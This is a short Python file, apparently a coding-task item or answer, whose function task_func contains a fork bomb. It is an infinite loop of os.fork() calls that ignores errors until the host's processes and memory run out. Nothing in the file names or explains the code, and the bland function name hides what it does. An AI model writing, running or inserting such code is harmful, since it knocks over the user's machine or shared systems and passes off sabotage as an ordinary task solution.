import os

def task_func(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
